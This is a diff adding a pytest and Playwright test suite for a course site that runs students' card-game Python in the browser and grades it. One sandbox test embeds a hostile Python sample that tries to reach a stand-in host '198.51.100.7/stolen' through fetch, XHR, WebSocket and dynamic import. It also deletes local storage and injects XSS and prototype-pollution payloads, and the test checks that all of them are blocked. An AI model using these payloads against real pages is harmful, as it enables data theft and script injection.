@@ -1,0 +1,228 @@
+"""Students' own classes in Chromium: checked, dealt, stepped through; and nothing leaves it."""
+
+import json
+import re
+from collections.abc import Callable
+from pathlib import Path
+
+import flask
+import pytest
+from flask.testing import FlaskClient
+from playwright.sync_api import Browser, Route
+
+from course.grading.sheets import SHEETS
+from tests.course.support import MUTANTS, SOLUTIONS, apply, copy_of, grading, lost
+from tests.own.conftest import Own
+from tests.support.browser import accessibility_faults
+from web.sheets import try_views
+
+OpenOwn = Callable[[str], Own]
+
+MUTATED = {"simple-21": "S0", "blackjack": "S1", "one-deck": "S2", "war": "S3", "bingo": "S4"}
+
+
+def test_an_ace_of_eleven_is_checked_dealt_and_stepped_to(own: OpenOwn, tmp_path: Path) -> None:
+    folder = copy_of(SHEETS["simple-21"], tmp_path / "files")
+    cards = folder / "playingCards.py"
+    wrong = 'return 11 if self.__rank == "A" else VALUES[self.__rank]'
+    cards.write_text(cards.read_text().replace("return VALUES[self.__rank]", wrong))
+    line = 1 + [wrong in text for text in cards.read_text().split("\n")].index(True)
+    page = own("simple-21")
+    page.choose(folder)
+    page.press("#check")
+    assert "S0-6" in page.unmet()
+    assert page.page.locator("#results li").count() == 78
+    assert page.points() == f"{78 - len(page.unmet())} of 78"
+    page.press("#sit")
+    assert page.page.locator("#felt .hand").count() == 2
+    for _ in range(60):
+        if page.page.locator("#difference").is_visible():
+            break
+        page.press("#moves button:first-child")
+    told = page.page.inner_text("#difference")
+    assert "S0-6: An ace counts 1, never 11." in told
+    assert f"Look at playingCards.py, line {line}." in told
+    assert re.search(r"The sheet's\s+1\s+Yours\s+11", told)
+    assert page.page.inner_text("#where").startswith("Step ")
+    page.page.get_by_text("The steps as a list").click()
+    assert page.page.locator("#step-list li").count() > 10
+    assert accessibility_faults(page.page) == []
+
+
+def test_a_table_of_bingo_is_dealt_and_a_card_called(own: OpenOwn) -> None:
+    page = own("bingo")
+    page.choose(SHEETS["bingo"].solution)
+    page.press("#sit")
+    assert page.page.locator("#felt .grid").count() == 2
+    page.press("#moves button:has-text('Call a card')")
+    assert page.page.locator("#difference").is_hidden()
+    assert page.page.locator("#source .now").count() == 1
+    page.page.reload()
+    assert page.page.locator("#chosen li").count() > 0, "the files are kept in the browser"
+    page.page.click("#forget")
+    page.page.reload()
+    page.page.wait_for_timeout(300)
+    assert page.page.locator("#chosen li").count() == 0
+
+
+def test_an_endless_loop_costs_its_own_checks_alone(own: OpenOwn, tmp_path: Path) -> None:
+    """Python's own limit ends one that does not swallow it."""
+    folder = copy_of(SHEETS["simple-21"], tmp_path / "files")
+    cards = folder / "playingCards.py"
+    source = cards.read_text()
+    assert source.count("self.__faceUp = not self.__faceUp") == 1
+    loop = "self.__faceUp = not self.__faceUp\n        while self.__suit == 'C': pass"
+    cards.write_text(source.replace("self.__faceUp = not self.__faceUp", loop))
+    page = own("simple-21")
+    page.choose(folder)
+    page.press("#sit")
+    for _ in range(30):
+        if page.page.locator("#difference").is_visible():
+            break
+        page.press("#moves button:first-child")
+    assert "it did not end within 3 seconds" in page.page.inner_text("#difference")
+
+
+def test_without_a_script_the_page_names_the_command(browser: Browser, own_site: str) -> None:
+    context = browser.new_context(java_script_enabled=False)
+    page = context.new_page()
+    page.goto(f"{own_site}/sheets/war/try")
+    assert "python -m course.grade war FOLDER" in page.inner_text("main")
+    context.close()
+
+
+def test_without_the_runtime_the_page_says_what_is_missing(
+    client: FlaskClient, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(try_views, "find_runtime", try_views.Runtime)
+    page = client.get("/sheets/bingo/try").get_data(as_text=True)
+    assert "make browser-python" in page
+    assert "python -m course.grade bingo FOLDER" in page
+    assert "data-python" not in page
+    assert client.get("/sheets/poker/try").status_code == 404
+
+
+def test_the_runtime_is_immutable_compressed_and_locked_down(
+    runtime: Path, app: flask.Flask
+) -> None:
+    assert runtime.is_dir()
+    client = app.test_client()
+    address = f"/sheets/python/{try_views.find_runtime().hash}"
+    answer = client.get(
+        f"{address}/worker.js", headers={"Accept-Encoding": "br, gzip"}, buffered=True
+    )
+    assert answer.status_code == 200
+    assert answer.headers["Content-Encoding"] == "br"
+    assert "immutable" in answer.headers["Cache-Control"]
+    policy = answer.headers["Content-Security-Policy"]
+    assert policy == "default-src 'none'; script-src 'wasm-unsafe-eval'"
+    assert "Cookie" not in answer.headers.get("Vary", "")
+    assert client.get(f"{address}/python.wasm", buffered=True).content_type == "application/wasm"
+    assert "Mozilla Public License" in client.get(f"{address}/NOTICE.txt", buffered=True).get_data(
+        as_text=True
+    )
+    assert client.get("/sheets/python/0123456789abcdef/worker.js").status_code == 404
+
+
+MESSAGES = (
+    {"kind": "result", "id": "<img src=x onerror=alert(1)>", "text": "<b>x</b>", "passed": True,
+     "points": "1e9", "worth": "1", "lines": [], "__proto__": {"polluted": 1}},
+    {"kind": "table", "moves": [], "steps": [], "compared": True, "broken": "", "printed": "",
+     "difference": None,
+     "html": "<img src=//198.51.100.7/x><script>alert(1)</script><a href=javascript:alert(1)>x</a>"
+             "<form action=/settings><button>y</button></form><style>*{display:none}</style>"
+             "<div class=evil onclick=alert(1) id=check style=position:fixed>z</div>"},
+)  # fmt: skip
+HOSTILE = """
+import js, sys, time
+from pyodide.code import run_js
+
+def attempt(act):
+    try:
+        act()
+    except BaseException as error:
+        pass
+
+def reach():
+    origin = str(js.location.origin)
+    for address in (origin + "/simple-21", "http://198.51.100.7/stolen"):
+        attempt(lambda: js.XMLHttpRequest.new().open("GET", address, False))
+        def send():
+            request = js.XMLHttpRequest.new()
+            request.open("GET", address, False)
+            request.send()
+        attempt(send)
+        attempt(lambda: js.WebSocket.new(address.replace("http", "ws")))
+        attempt(lambda: js.EventSource.new(address))
+        attempt(lambda: js.fetch(address))
+        attempt(lambda: js.Worker.new(address))
+        attempt(lambda: js.importScripts(address))
+        attempt(lambda: run_js("import(%r)" % address))
+        attempt(lambda: js.Function.new("return import(%r)" % address)())
+        attempt(lambda: js.eval("fetch(%r)" % address))
+    attempt(lambda: js.indexedDB.deleteDatabase("cardgames-own"))
+    for message in MESSAGES:
+        attempt(lambda: js.postMessage(js.JSON.parse(message)))
+
+
+reach()
+"""
+
+
+def test_a_hostile_file_reaches_nothing(browser: Browser, own_site: str, tmp_path: Path) -> None:
+    """Every request of the browser passes a route that notes it: none comes of the program."""
+    folder = copy_of(SHEETS["simple-21"], tmp_path / "files")
+    cards = folder / "playingCards.py"
+    messages = [json.dumps(message) for message in MESSAGES]
+    cards.write_text(f"MESSAGES = {messages!r}\n{HOSTILE}{cards.read_text()}")
+    context = browser.new_context()
+    seen: list[str] = []
+
+    def note(route: Route) -> None:
+        seen.append(route.request.url)
+        route.continue_()
+
+    context.route("**/*", note)
+    page = context.new_page()
+    dialogs: list[str] = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    own = Own(page, own_site, "simple-21")
+    own.choose(folder)
+    loaded = len(seen)
+    own.press("#sit")
+    own.press("#check")
+    page.wait_for_timeout(500)
+    later = [url for url in seen[loaded:] if not re.search(r"/static/\w+/cards/[\w.]+$", url)]
+    assert later == []
+    assert dialogs == []
+    assert page.evaluate("({}).polluted") is None
+    felt = page.inner_html("#felt")
+    assert not re.search(r"198\.51|<script|javascript:|<form|<style|onclick|onerror|style=", felt)
+    assert page.locator("#check").count() == 1
+    assert page.locator("#chosen li").count() > 0
+    page.reload()
+    own.until(lambda: page.locator("#chosen li").count() > 0)  # the database is still there
+    context.close()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("slug", SHEETS)
+def test_points_are_those_of_the_grader(own: OpenOwn, slug: str, tmp_path: Path) -> None:
+    """Our solution, the students' and each mutant, requirement by requirement."""
+    folders = {"ours": copy_of(SHEETS[slug], tmp_path / "ours")}
+    folders |= {folder.name: folder for folder in sorted((SOLUTIONS / slug).iterdir())}
+    for patch in sorted(MUTANTS.glob(f"{MUTATED[slug]}-*.patch")):
+        folders[patch.stem] = copy_of(SHEETS[slug], tmp_path / patch.stem)
+        apply(patch, folders[patch.stem])
+    page = own(slug)
+    unlike = {}
+    grade = grading()
+    for name, folder in folders.items():
+        if page.page.locator("#forget").is_visible():
+            page.page.click("#forget")
+        page.choose(folder)
+        page.press("#check")
+        native = lost(grade(slug, folder))
+        if page.unmet() != native:
+            unlike[name] = (page.unmet(), native)
+    assert unlike == {}
